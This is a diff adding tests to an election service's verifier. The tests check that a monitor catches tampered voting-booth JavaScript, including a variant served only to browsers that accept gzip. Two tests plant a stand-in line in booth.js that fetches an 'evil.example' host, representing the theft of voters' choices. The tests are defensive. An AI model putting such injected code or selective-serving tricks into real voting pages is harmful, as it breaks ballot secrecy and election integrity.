@@ -19,6 +19,7 @@ from crypto.cosignature import TYPE_ED25519, Cosigner
 from crypto.merkle import MerkleTree, leaf_hash
 from crypto.note import parse_note
 from crypto.witness_policy import manifest_section
+from scripts.verifier.follow_state import MIRROR
 from tally_service import results, tally
 from tally_service.app import create_app
 from tally_service.config import Config
@@ -299,6 +300,7 @@ def staged(built: Built, base: Path, unit_lines: int, notes: int) -> Path:
     served.mkdir()
     for name in ("manifest.json", "key_ceremony.json"):
         shutil.copy(built.record / name, served / name)
+    shutil.copytree(built.record / "booth_code", served / "booth_code")
     folder = served / "units" / "AAA" / "1"
     folder.mkdir(parents=True)
     source = built.record / "units" / "AAA" / "1"
@@ -684,3 +686,124 @@ def test_the_command_line_refuses_what_it_cannot_follow(tmp_path: Path) -> None:
     (tmp_path / "state.json").write_text(json.dumps(FollowState("http://elsewhere").to_json()))
     other = run_script("verify.py", "--follow", "http://127.0.0.1:9", "--state", str(tmp_path))
     assert other.returncode == 2 and "follows http://elsewhere" in other.stderr
+
+
+# -- the booth's code (issue 25): served bytes compared with the sealed hashes on every poll ----
+
+
+def test_a_service_that_serves_a_changed_booth_js_is_caught_with_evidence(
+    finished: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The real service, its election sealed with the project's booth files, started with a
+    booth.js that also posts the elector's choice elsewhere (and the page that loads it, with
+    that file's SRI hash): the monitor's first poll fails V1 on both, the bytes served kept."""
+    import tally_service.pages
+
+    static = tmp_path / "static"
+    shutil.copytree(tally_service.pages.STATIC, static)
+    evil = (static / "js" / "booth.js").read_bytes() + b"\nroot.fetch('https://evil.example/');\n"
+    (static / "js" / "booth.js").write_bytes(evil)
+    monkeypatch.setattr(tally_service.pages, "STATIC", static)
+    shutil.copytree(finished.data_dir, tmp_path / "data")  # the module's election stays as is
+    election = Election(tmp_path / "data", Config())
+    app = create_app(election)
+    app.static_folder = str(static)
+    server = ThreadServer(app)
+    try:
+        follower = Follower(server.url, tmp_path / "state")
+        follower.poll()
+    finally:
+        server.stop()
+        election.stop()
+    assert follower.done and follower.report.failed() == ["V1"]
+    failures = {f.where: f.why for f in follower.report["V1"].failures}
+    assert set(failures) == {"booth_code/static/js/booth.js", "booth_code/booth"}
+    why = failures["booth_code/static/js/booth.js"]
+    assert why.startswith("the service now serves another static/js/booth.js than the sealed")
+    kept = [p for p in (tmp_path / "state" / "evidence").iterdir() if "booth.js" in p.name]
+    assert [(p / "served-now").read_bytes() for p in kept] == [evil]
+    assert not (tmp_path / "state" / MIRROR / "booth_code" / "static" / "js" / "booth.js").exists()
+
+
+def test_a_booth_file_changed_between_polls_is_kept_once_with_both_versions(
+    finished: Built, tmp_path: Path
+) -> None:
+    """The operator serves the sealed booth.js while the monitor first looks, then another:
+    caught at the next poll, both versions kept, and reported once however often it is
+    served (before the final result; the record the service would export fails V1 too)."""
+    served = staged(finished, tmp_path, 4, 1)
+    server = ThreadServer(RecordService(served))
+    state = tmp_path / "state"
+    js = served / "booth_code" / "static" / "js" / "booth.js"
+    sealed_js = js.read_bytes()
+    try:
+        follower = Follower(server.url, state)
+        follower.poll()
+        assert follower.report.ok, follower.report.failed()
+        assert (state / MIRROR / "booth_code" / "static" / "js" / "booth.js").read_bytes() == (
+            sealed_js
+        )
+        js.write_bytes(sealed_js.replace(b"use strict", b"use sloppy"))
+        follower.poll()
+        follower.poll()
+    finally:
+        server.stop()
+    assert follower.report.failed() == ["V1"]
+    [failure] = follower.report["V1"].failures
+    assert failure.where == "booth_code/static/js/booth.js"
+    evidence = evidence_of(state)
+    assert (evidence / "served-now").read_bytes() == js.read_bytes()
+    assert (evidence / "sealed").read_bytes() == sealed_js
+    assert "booth.files" in (evidence / "why.txt").read_text()
+    assert "V1" in verify(served).failed()
+
+
+def test_a_booth_file_not_served_at_all_fails_v1(finished: Built, tmp_path: Path) -> None:
+    """A service that stops serving the vendored libsodium (404): the monitor says so."""
+    served = tmp_path / "served"
+    shutil.copytree(finished.record, served)
+    (served / "booth_code" / "static" / "vendor" / "libsodium-sumo.js").unlink()
+    server = ThreadServer(RecordService(served))
+    try:
+        follower = Follower(server.url, tmp_path / "state")
+        follower.poll()
+    finally:
+        server.stop()
+    assert follower.done and follower.report.failed() == ["V1"]
+    [failure] = follower.report["V1"].failures
+    assert failure.where == "booth_code/static/vendor/libsodium-sumo.js"
+    assert failure.why.endswith(
+        "none at all (evidence: evidence/001-changed-booth_code-static-vendor-libsodium-sumo.js)"
+    )
+
+
+def test_a_changed_booth_js_served_only_to_browsers_that_accept_gzip_is_caught(
+    finished: Built, tmp_path: Path
+) -> None:
+    """The operator answers with the sealed booth.js when asked without Accept-Encoding (as
+    curl and a naive monitor ask) and with its own, gzip-compressed, when asked as browsers
+    ask: the monitor asks both ways on alternate polls and catches it."""
+    import gzip
+
+    served = staged(finished, tmp_path, 4, 1)
+    evil = b"root.fetch('https://evil.example/');\n"
+    plain = RecordService(served)
+
+    def service(environ: dict[str, Any], start_response: Callable[..., Any]) -> list[bytes]:
+        browser = "gzip" in environ.get("HTTP_ACCEPT_ENCODING", "")
+        if environ["PATH_INFO"] == "/static/js/booth.js" and browser:
+            start_response("200 OK", [("Content-Encoding", "gzip")])
+            return [gzip.compress(evil)]
+        return plain(environ, start_response)
+
+    server = ThreadServer(service)
+    try:
+        follower = Follower(server.url, tmp_path / "state")
+        follower.poll()
+        follower.poll()
+    finally:
+        server.stop()
+    assert follower.report.failed() == ["V1"]
+    [failure] = follower.report["V1"].failures
+    assert failure.where == "booth_code/static/js/booth.js"
+    assert (evidence_of(tmp_path / "state") / "served-now").read_bytes() == evil
